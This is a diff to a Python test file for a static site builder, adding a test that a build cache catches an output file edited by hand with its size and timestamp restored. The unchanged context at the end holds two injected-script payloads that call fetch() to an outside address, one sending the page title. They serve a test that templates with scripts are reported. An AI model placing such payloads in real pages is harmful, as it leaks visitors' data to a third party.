@@ -340,6 +340,30 @@ def test_out_replaces_only_a_folder_briefing_wrote(tmp_path: Path):
     assert (out / "index.html").is_file()
 
 
+def test_a_running_build_sees_a_file_of_its_output_edited_by_hand_even_with_its_size_and_time(tmp_path: Path):
+    """`serve --out`, `build --watch` and the resident build process remember what they wrote, so as not
+    to hash the whole output before each build; a file edited since is still refused, even when the
+    edit keeps its size and sets its time back."""
+    from builder.build import build
+    from builder.cache import BuildCache
+    from builder.errors import BriefingError
+
+    site = copy_site(MINIMAL, tmp_path / "site")
+    out = tmp_path / "out"
+    running = BuildCache()
+    build(site, out, cache=running)
+    build(site, out, cache=running)  # (what it wrote is taken as it stands)
+    page = out / "index.html"
+    kept = page.stat()
+    text = page.read_bytes()
+    page.write_bytes(text.replace(b"<html", b"<HTML", 1))
+    os.utime(page, ns=(kept.st_atime_ns, kept.st_mtime_ns))
+    assert page.stat().st_size == kept.st_size and page.stat().st_mtime_ns == kept.st_mtime_ns
+    with pytest.raises(BriefingError, match=r"index\.html \(changed since\)"):
+        build(site, out, cache=running)
+    assert page.read_bytes() != text  # left as the writer left it
+
+
 @pytest.mark.parametrize("snippet", ["<script>fetch('http://198.51.100.1/?' + document.title)</script>",
                                      '<p onmouseover="fetch(\'http://198.51.100.1/\')">x</p>'])
 def test_a_script_written_into_a_template_is_reported_not_trusted(minimal_site: Path, tmp_path: Path, snippet: str):
